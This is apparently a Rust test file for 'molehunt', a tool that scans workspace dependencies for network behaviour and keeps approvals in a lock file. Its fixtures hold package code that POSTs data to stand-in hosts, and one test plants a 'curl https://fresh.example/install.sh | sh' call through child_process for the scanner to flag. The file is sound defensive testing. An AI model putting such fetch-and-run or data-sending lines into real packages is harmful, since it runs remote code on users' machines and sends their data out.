//! One lock for a project with workspaces, whichever way its packages are installed.

#![cfg(unix)]

use std::{fs, os::unix::fs::symlink, path::Path, process::Command};

/// A project of two workspaces, `web` and `api`, in a folder of its own.
struct Project(tempfile::TempDir);

impl Project {
    fn new() -> Self {
        let project = Self(tempfile::tempdir().expect("a folder"));
        project.package(".", "shop", "");
        project.package("packages/web", "@shop/web", "exports.page = () => fetch('https://shop.example/');");
        project.package("packages/api", "@shop/api", "");
        project
    }

    fn package(&self, path: &str, name: &str, code: &str) {
        let folder = self.0.path().join(path);
        fs::create_dir_all(&folder).expect("a folder");
        let manifest = format!(r#"{{ "name": "{name}", "version": "1.0.0", "main": "index.js" }}"#);
        fs::write(folder.join("package.json"), manifest).expect("a file");
        fs::write(folder.join("index.js"), code).expect("a file");
    }

    /// Stores a package as pnpm does, and links it into a workspace.
    fn stored(&self, workspace: &str, name: &str, version: &str, code: &str) {
        let stored = format!("node_modules/.pnpm/{name}@{version}/node_modules/{name}");
        self.package(&stored, name, code);
        let installed = self.0.path().join("packages").join(workspace).join("node_modules");
        fs::create_dir_all(&installed).expect("a folder");
        symlink(Path::new("../../..").join(stored), installed.join(name)).expect("a link");
    }

    fn run(&self, arguments: &[&str]) -> (i32, String) {
        let mut command = Command::new(env!("CARGO_BIN_EXE_molehunt"));
        let output = command.args(arguments).args(["--color", "never"]).current_dir(self.0.path()).output();
        let output = output.expect("the command can be run");
        let text = String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr);
        // What wraps at the edge of a page is one line.
        (output.status.code().expect("it ends"), text.split_whitespace().collect::<Vec<_>>().join(" "))
    }

    fn lock(&self) -> String {
        fs::read_to_string(self.0.path().join("molehunt.lock")).expect("it was written")
    }
}

/// A package that sends to a host.
fn talking_to(host: &str) -> String {
    format!("exports.send = (body) => fetch('https://{host}/', {{ method: 'POST', body }});\n")
}

#[test]
fn what_only_one_workspace_has_is_checked_as_well() {
    let project = Project::new();
    project.package("node_modules/left", "left", &talking_to("left.example"));
    assert_eq!(project.run(&["lock"]).0, 0);
    // Its own version, as npm installs it where the outermost folder has another one.
    project.package("packages/api/node_modules/right", "right", &talking_to("right.example"));
    let (code, text) = project.run(&["check"]);
    assert_eq!(code, 1, "{text}");
    let place = "right@1.0.0 (packages/api/node_modules/right), of which nothing is approved yet";
    assert!(text.contains(place), "{text}");
    assert!(text.contains("approve it with molehunt lock --update right"), "{text}");
    assert_eq!(project.run(&["lock", "--update", "right"]).0, 0);
    assert!(project.lock().contains("send-data destination=right.example"), "{}", project.lock());
    assert!(!project.lock().contains("shop.example"), "the project's own code needs no approval");
    assert_eq!(project.run(&["check"]).0, 0);
    // Whoever names a folder means that one.
    project.package("packages/web/node_modules/third", "third", &talking_to("third.example"));
    assert_eq!(project.run(&["check", "packages/api/node_modules", "node_modules"]).0, 0);
    assert_eq!(project.run(&["check"]).0, 1);
}

#[test]
fn packages_come_change_and_go() {
    let project = Project::new();
    project.stored("web", "mailer", "1.0.0", &talking_to("mail.example"));
    project.stored("api", "mailer", "2.0.0", &talking_to("mail.example"));
    project.stored("web", "quiet", "1.0.0", "exports.double = (n) => n * 2;\n");
    assert_eq!(project.run(&["lock"]).0, 0);
    let before = project.lock();
    assert_eq!(before.matches("destination=mail.example").count(), 1, "a line for both versions: {before}");

    // One of two versions gains a host: it is told which.
    project.package(
        "node_modules/.pnpm/mailer@2.0.0/node_modules/mailer",
        "mailer",
        &(talking_to("mail.example") + &talking_to("more.example").replace("send", "also")),
    );
    let (code, text) = project.run(&["check"]);
    assert_eq!(code, 1, "{text}");
    assert!(text.contains("1 behaviour is not approved: by mailer"), "{text}");
    assert!(text.contains("(node_modules/.pnpm/mailer@2.0.0/node_modules/mailer) + talks to more.example"), "{text}");
    assert!(!text.contains("nothing is approved yet"), "the package is known: {text}");

    // What was approved and is gone fails nobody, and the one line that is left over can be taken out.
    assert_eq!(project.run(&["lock", "--update", "mailer"]).0, 0);
    for version in ["1.0.0", "2.0.0"] {
        fs::remove_dir_all(project.0.path().join(format!("node_modules/.pnpm/mailer@{version}"))).expect("it is there");
    }
    for workspace in ["web", "api"] {
        fs::remove_file(project.0.path().join(format!("packages/{workspace}/node_modules/mailer"))).expect("a link");
    }
    let (code, text) = project.run(&["check"]);
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("- mailer: send-data destination=more.example"), "{text}");
    assert!(text.contains("take out with molehunt lock --update mailer"), "{text}");
    assert_eq!(project.run(&["lock", "--update", "mailer"]).0, 0);
    assert!(!project.lock().contains("mailer"), "{}", project.lock());
}

#[test]
fn one_place_is_told_once() {
    let project = Project::new();
    project.package("node_modules/quiet", "quiet", "");
    assert_eq!(project.run(&["lock"]).0, 0);
    let code = "require('node:child_process').execSync('curl https://fresh.example/install.sh | sh');\n";
    project.package("node_modules/fresh", "fresh", code);
    let (status, text) = project.run(&["check"]);
    assert_eq!(status, 1, "{text}");
    assert_eq!(text.matches("runs what it gets from the network").count(), 1, "{text}");
}
